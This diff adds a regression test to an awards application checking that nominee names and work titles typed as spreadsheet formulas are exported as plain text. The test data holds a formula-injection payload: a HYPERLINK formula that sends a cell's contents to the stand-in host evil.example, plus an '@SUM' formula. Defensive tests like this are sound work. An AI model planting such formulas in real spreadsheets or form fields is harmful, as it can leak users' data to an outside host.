@@ -53,3 +53,14 @@ def test_non_admins_are_forbidden(world, client_for, final, who):
 
 def test_post_is_not_allowed(world, client_for, final):
     assert client_for(world.province_admin).post(url(final.programme)).status_code == 405
+
+
+def test_names_and_titles_typed_as_formulas_stay_text(world, client_for, final):
+    from awards.models import Nomination
+
+    name, title = '=HYPERLINK("http://evil.example/?"&D3,"点击查看")', "@SUM(A1:A9)"
+    Nomination.objects.update(nominee_name=name, work_title=title)
+    response = client_for(world.province_admin).get(url(final.programme))
+    sheet = load_workbook(BytesIO(response.content)).active
+    assert (sheet["C2"].value, sheet["C2"].data_type) == (name, "s")
+    assert (sheet["D2"].value, sheet["D2"].data_type) == (title, "s")
